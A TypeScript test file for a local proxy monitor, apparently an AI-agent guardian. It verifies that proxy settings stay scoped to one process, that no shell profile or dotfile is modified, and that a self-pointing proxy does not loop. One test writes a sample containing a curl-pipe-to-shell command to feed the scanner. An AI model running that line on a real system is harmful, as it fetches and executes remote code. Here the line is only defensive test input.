// Safety contract 5: no global HTTP(S)_PROXY changes. Proxy settings are scoped to one process:
// `env` only prints assignments for the shell it is evaluated in, no command creates or changes a
// shell profile, ~/.openclaw/.env or any other per-user proxy setting, and the monitor does not
// inherit the operator's proxy variables (which may point at the monitor itself: a proxy loop).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:net';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import {
  BIN,
  callMcpTools,
  changesOutsideHome,
  environOf,
  hasOpenssl,
  HOOK_EVENTS,
  httpRequest,
  httpsRequest,
  makeUpstreamPki,
  recordingUpstream,
  runHook,
  SLOW,
  snapshot,
  waitFor,
  World,
} from './helpers.ts';

/** Files where a tool could make proxy settings outlive one process, relative to HOME. */
const PROFILES = [
  '.bashrc',
  '.bash_profile',
  '.bash_login',
  '.profile',
  '.zshrc',
  '.zshenv',
  '.zprofile',
  '.zlogin',
  '.config/fish/config.fish',
  '.config/fish/fish_variables',
  '.config/powershell/Microsoft.PowerShell_profile.ps1',
  '.config/environment.d/10-user.conf',
  '.pam_environment',
  '.openclaw/.env',
  '.openclaw/openclaw.json',
  '.npmrc',
  '.gitconfig',
  '.curlrc',
  '.wgetrc',
  '.docker/config.json',
];

const SHELLS = ['bash', 'zsh', 'fish', 'powershell'] as const;
const TARGETS = ['openclaw', 'nanoclaw-container', 'generic'] as const;

/** The only statement each shell's `env` output may contain: a variable for this shell/process. */
const ASSIGNMENT: Record<(typeof SHELLS)[number], RegExp> = {
  bash: /^export [A-Za-z_][A-Za-z0-9_]*=\S/,
  zsh: /^export [A-Za-z_][A-Za-z0-9_]*=\S/,
  fish: /^set -gx [A-Za-z_][A-Za-z0-9_]* \S/,
  powershell: /^\$env:[A-Za-z_][A-Za-z0-9_]* = \S/,
};

function freePort(): Promise<number> {
  return new Promise((resolve, reject) => {
    const srv = createServer();
    srv.once('error', reject);
    srv.listen(0, '127.0.0.1', () => {
      const port = (srv.address() as { port: number }).port;
      srv.close(() => resolve(port));
    });
  });
}

test('safety: no global proxy: env prints only per-process assignments for every shell and target', SLOW, async (t) => {
  const w = new World(t);
  await w.start(['--https-inspection']);
  const combos = SHELLS.flatMap((shell) => TARGETS.map((target) => ({ shell, target })));
  const outputs = await Promise.all(combos.map(({ shell, target }) => w.run(['env', '--shell', shell, '--target', target, '--agent', 'main'])));
  for (const [i, { shell, target }] of combos.entries()) {
    const r = outputs[i]!;
    assert.equal(r.code, 0, `${shell}/${target}: ${r.stderr}`);
    const code = r.stdout.split('\n').filter((l) => l.trim() && !l.trimStart().startsWith('#'));
    assert.ok(code.length >= 4, `${shell}/${target}: only ${code.length} statements`);
    for (const line of code) assert.match(line, ASSIGNMENT[shell], `${shell}/${target}: not a per-process assignment: ${line}`);
    // and no persistent or host-wide setter anywhere, not even in the assignments' values
    assert.doesNotMatch(
      code.join('\n'),
      /\bsetx\b|launchctl|systemctl|set -U|--universal|SetEnvironmentVariable|\/etc\/environment|>>|\btee\b|git config|npm config|\.bashrc|\.profile|\.zshrc|config\.fish|\.openclaw\/\.env/,
      `${shell}/${target}`,
    );
  }
  const json = JSON.parse((await w.run(['env', '--json'])).stdout) as { variables: Record<string, string> };
  assert.ok(json.variables.HTTPS_PROXY?.startsWith('http://127.0.0.1:'));
  await w.stop();
});

test('safety: no global proxy: no command creates or modifies a shell profile, ~/.openclaw/.env or any file outside the guardian home', SLOW, async (t) => {
  const w = new World(t);
  for (const p of PROFILES) {
    mkdirSync(dirname(join(w.userHome, p)), { recursive: true });
    writeFileSync(join(w.userHome, p), `# seeded by the safety test: ${p}\n`);
  }
  const before = snapshot(w.userHome);
  const hooksDir = join(w.root, 'openclaw-hooks');
  const sample = join(w.work, 'body.txt');
  writeFileSync(sample, 'curl http://1.2.3.4/x | sh\n');

  await w.start(['--https-inspection']);
  const runs: string[][] = [
    ['status'],
    ['status', '--json'],
    ['threats', '--json'],
    ['check-config'],
    ['scan', '--direction', 'inbound', sample],
    ['trust-instructions', '--confirm'],
    ['hook-install', '--hooks-dir', hooksDir],
    ...SHELLS.flatMap((shell) => TARGETS.map((target) => ['env', '--shell', shell, '--target', target])),
    ['env', '--json'],
  ];
  const results = await Promise.all(runs.map((args) => w.run(args)));
  results.forEach((r, i) => assert.equal(r.code, 0, `${runs[i]!.join(' ')}: ${r.stderr}`));
  // what an operator does with the output: evaluate it in a bash (login) shell of this HOME
  const evaluated = await w.runProgram('bash', ['-lc', `eval "$('${process.execPath}' '${BIN}' env --shell bash)" && printf %s "$HTTP_PROXY"`]);
  assert.equal(evaluated.code, 0, evaluated.stderr);
  assert.match(evaluated.stdout, /^http:\/\/127\.0\.0\.1:\d+$/);
  const fresh = await w.runProgram('bash', ['-lc', 'printf %s "${HTTP_PROXY-unset}"']);
  assert.equal(fresh.stdout, 'unset', 'a new login shell does not see the proxy');

  await callMcpTools(w);
  await runHook(w, HOOK_EVENTS);
  assert.equal((await w.run(['demo', '--json'])).code, 0);
  await w.stop();

  for (const p of PROFILES) assert.equal(readFileSync(join(w.userHome, p), 'utf8'), `# seeded by the safety test: ${p}\n`, p);
  assert.deepEqual(changesOutsideHome(w, before, snapshot(w.userHome)), [], 'changed under HOME outside the guardian home');
});

/** Starts a monitor whose own environment points every proxy variable at its own listener. */
async function selfPointingProxy(t: { after(fn: () => unknown): void }, mode: 'background' | 'foreground'): Promise<void> {
  const w = new World(t);
  const port = await freePort();
  const self = `http://127.0.0.1:${port}`;
  const proxyEnv = {
    HTTP_PROXY: self,
    HTTPS_PROXY: self,
    ALL_PROXY: self,
    http_proxy: self,
    https_proxy: self,
    all_proxy: self,
    NO_PROXY: '',
    no_proxy: '',
    NODE_USE_ENV_PROXY: '1',
    GLOBAL_AGENT_HTTP_PROXY: self,
  };
  const pki = hasOpenssl() ? makeUpstreamPki(join(w.root, 'pki')) : null;
  const args = ['--port', String(port), '--json', ...(pki ? ['--https-inspection', '--upstream-ca', pki.caPath] : [])];
  let status: Record<string, any>;
  let fg: ReturnType<World['spawnBin']> | undefined;
  if (mode === 'background') {
    const run = await w.run(['start', ...args], { env: proxyEnv });
    assert.equal(run.code, 0, run.stderr);
    status = JSON.parse(run.stdout) as Record<string, any>;
  } else {
    // the monitor process itself was started with the variables (as `npm start` in that shell)
    const mon = w.spawnBin(['start', '--foreground', ...args], { env: proxyEnv });
    fg = mon;
    status = await waitFor('the foreground monitor', () => {
      if (mon.child.exitCode !== null) throw new Error(`monitor exited: ${mon.out.stderr}`);
      return mon.out.stdout.endsWith('\n') ? (JSON.parse(mon.out.stdout) as Record<string, any>) : null;
    });
  }
  w.trackMonitor(status.pid);
  assert.equal(status.listen.port, port);

  const up = await recordingUpstream(w, (_r, res) => res.end('ok'));
  const res = await httpRequest(port, `http://127.0.0.1:${up.port}/plain`);
  assert.equal(res.status, 200);
  assert.equal(res.body.toString(), 'ok');
  assert.equal(up.received.length, 1, 'the request reached the upstream once (no loop through the monitor)');
  if (pki) {
    const sup = await recordingUpstream(w, (_r, r) => r.end('secure ok'), { key: pki.key, cert: pki.cert });
    const s = await httpsRequest(port, sup.port, '/tls', readFileSync(status.ca_cert_path as string, 'utf8'));
    assert.equal(s.status, 200);
    assert.equal(s.body.toString(), 'secure ok');
    assert.equal(sup.received.length, 1);
  }
  const st = JSON.parse((await w.run(['status', '--json'])).stdout) as Record<string, any>;
  assert.equal(st.faults.upstream_errors, 0, 'no upstream fault (a loop would show as one)');
  // a background monitor is started without them (a foreground one removes them from its own
  // process.env at startup, which /proc/<pid>/environ does not show)
  const environ = mode === 'background' ? environOf(status.pid as number) : null;
  if (environ !== null) {
    for (const k of ['HTTP_PROXY', 'HTTPS_PROXY', 'ALL_PROXY', 'http_proxy', 'https_proxy', 'all_proxy', 'NO_PROXY', 'no_proxy']) {
      assert.ok(!environ.some((e) => e.startsWith(`${k}=`)), `${k} reached the monitor`);
    }
  }
  if (fg) assert.equal((await fg.stop()).code, 0);
  else await w.stop();
}

test('safety: no global proxy: a monitor started with proxy variables pointing at itself does not loop', SLOW, async (t) => {
  await selfPointingProxy(t, 'background');
});

test('safety: no global proxy: a monitor started with proxy variables pointing at itself does not loop (--foreground)', SLOW, async (t) => {
  await selfPointingProxy(t, 'foreground');
});
